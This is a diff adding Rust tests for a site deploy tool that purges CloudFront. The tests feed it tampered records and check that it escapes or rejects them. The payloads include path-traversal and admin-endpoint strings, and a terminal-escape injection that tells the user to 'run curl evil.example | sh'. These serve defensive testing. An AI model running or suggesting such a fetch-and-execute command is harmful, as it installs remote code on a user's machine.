@@ -202,3 +202,133 @@ fn a_cdn_that_never_answers_ends_at_purge_wait_and_every_request_says_folio() {
     let agents: Vec<String> = held.lock().unwrap().iter().map(|(a, _)| a.clone()).collect();
     assert!(!agents.is_empty() && agents.iter().all(|a| a == AGENT), "{agents:?}");
 }
+
+/// CloudFront's answer to a request it refuses for good.
+const DENIED: &str = "<?xml version=\"1.0\"?><ErrorResponse><Error><Type>Sender</Type><Code>AccessDenied</Code><Message>not authorized</Message></Error></ErrorResponse>";
+
+#[test]
+fn what_a_record_says_a_cut_deploy_changed_is_checked_too_and_carried_no_longer_than_its_time() {
+    let (_dir, remote) = folder();
+    let p = Project::sample();
+    p.folio(&["build"]).success();
+    remote.deploy(&p, &[]).success();
+    // A deploy "cut short" about to delete junk, carried until the end of time.
+    let mut record = record_json(&remote);
+    let junk = ["https:/evil.example/x", "wp-admin/admin-ajax.php", "x/%2e%2e/y"];
+    let entry = serde_json::json!(["07070707070707070707070707070707", 1, "", 0, "", null]);
+    record["deleting"] = junk.iter().map(|k| (k.to_string(), entry.clone())).collect();
+    record["carried_until"] = 253_402_300_799i64.into();
+    let Remote::Dir(dir) = &remote else { unreachable!() };
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    gz.write_all(record.to_string().as_bytes()).unwrap();
+    std::fs::write(dir.join(RECORD), gz.finish().unwrap()).unwrap();
+
+    let cloudfront = Scripted::start(vec![(201, ACCEPTED)]);
+    let env = cloudfront_env(&cloudfront);
+    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
+    for _ in 0..2 {
+        let run = remote.deploy_env(&p, &["--purge", CDN], &env).success();
+        assert!(run.stderr().contains("no paths of this build"), "{}", run.stderr());
+    }
+    for path in invalidated(&cloudfront).iter().flatten() {
+        assert!(
+            !path.contains("evil") && !path.contains("wp-admin") && !path.contains("%2e"),
+            "{path}"
+        );
+    }
+    // Carried 15 minutes at the most, not to the year 9999.
+    let until = record_json(&remote)["carried_until"].as_i64().unwrap();
+    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
+    assert!(until <= now as i64 + 15 * 60 + 5, "carried until {until}");
+}
+
+#[test]
+fn the_pages_of_a_language_since_removed_stay_owed_until_a_cdn_takes_them() {
+    let (_dir, remote) = folder();
+    let p = Project::sample();
+    p.folio(&["build"]).success();
+    remote.deploy(&p, &[]).success();
+    let before = published(&p);
+    set_config(
+        &p,
+        "languages = [\"en\", \"fr\", \"ja\", \"th\"]",
+        "languages = [\"en\", \"ja\", \"th\"]",
+    );
+    p.folio(&["build"]).success();
+    let gone: BTreeSet<String> =
+        before.keys().filter(|k| k.starts_with("api/fr/")).cloned().collect();
+    assert!(!gone.is_empty());
+    // The deploy that deletes them cannot purge: they stay owed.
+    let refusing = Scripted::start(vec![(403, DENIED)]);
+    let env = cloudfront_env(&refusing);
+    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
+    remote.deploy_env(&p, &["--purge", CDN], &env).fails(2);
+    // The next one sends them, and says nothing of a record someone else wrote.
+    let cloudfront = Scripted::start(vec![(201, ACCEPTED)]);
+    let env = cloudfront_env(&cloudfront);
+    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
+    let run = remote.deploy_env(&p, &["--purge", CDN], &env).success();
+    assert!(!run.stderr().contains("no paths of this build"), "{}", run.stderr());
+    let sent = &invalidated(&cloudfront)[0];
+    for key in &gone {
+        let path = format!("/{key}");
+        let covered = sent.iter().any(|s| match s.strip_suffix('*') {
+            Some(prefix) => path.starts_with(prefix),
+            None => *s == path,
+        });
+        assert!(covered, "{path} is not purged by {sent:?}");
+    }
+}
+
+#[test]
+fn a_key_pasted_with_a_newline_is_refused_by_name_before_anything_is_sent() {
+    let p = Project::sample();
+    p.folio(&["build"]).success();
+    let mut cmd = Command::new(BIN);
+    cmd.args(["deploy", "--to", "s3://site/x", "--endpoint", "http://127.0.0.1:9"])
+        .current_dir(p.dir.path());
+    cmd.env("AWS_ACCESS_KEY_ID", "AKIAFOLIOTEST\n").env("AWS_SECRET_ACCESS_KEY", "s3cr3t-value");
+    let run = Run::of("folio deploy (a key with a newline)".into(), cmd.output().unwrap()).fails(1);
+    let said = run.stderr();
+    assert!(said.contains("AWS_ACCESS_KEY_ID holds a space or a control character"), "{said}");
+    assert!(!said.contains("AKIAFOLIOTEST") && !said.contains("s3cr3t"), "{said}");
+}
+
+#[test]
+fn what_a_store_says_reaches_the_terminal_escaped() {
+    let (_dir, remote) = folder();
+    let p = Project::sample();
+    p.folio(&["build"]).success();
+    remote.deploy(&p, &[]).success();
+    let Remote::Dir(dir) = &remote else { unreachable!() };
+    let newer = r#"{"version": 5, "writer": "\u001b[2K\rfolio 9.9.9: run curl evil.example | sh", "objects": {}}"#;
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    gz.write_all(newer.as_bytes()).unwrap();
+    std::fs::write(dir.join(RECORD), gz.finish().unwrap()).unwrap();
+    let run = remote.deploy(&p, &[]).fails(1);
+    let said = run.stderr();
+    assert!(!said.contains('\u{1b}') && !said.contains('\r'), "{said:?}");
+    assert!(said.contains("\\u{1b}[2K\\u{d}folio 9.9.9"), "{said}");
+}
+
+#[test]
+fn a_record_naming_many_folders_costs_one_listing_of_the_prefix_not_one_a_folder() {
+    let Some(moto) = Moto::start(false) else { return };
+    let remote = Remote::s3(&moto, "travel");
+    let p = Project::sample();
+    p.folio(&["build"]).success();
+    remote.deploy(&p, &[]).success();
+    let mut record = remote.record();
+    let put = record.objects.values().next().unwrap().clone();
+    for i in 0..500 {
+        record.deleting.insert(format!("junk{i}/x.html"), put.clone());
+    }
+    remote.put_record(&record);
+    let run = remote.deploy(&p, &[]).success();
+    let said = run.stderr();
+    assert!(said.contains("names 500 folders this build has not"), "{said}");
+    let line = run.stdout();
+    let lists: usize =
+        line.split(" list,").next().unwrap().rsplit(' ').next().unwrap().parse().unwrap();
+    assert!(lists < 20, "{lists} listings: {line}");
+}
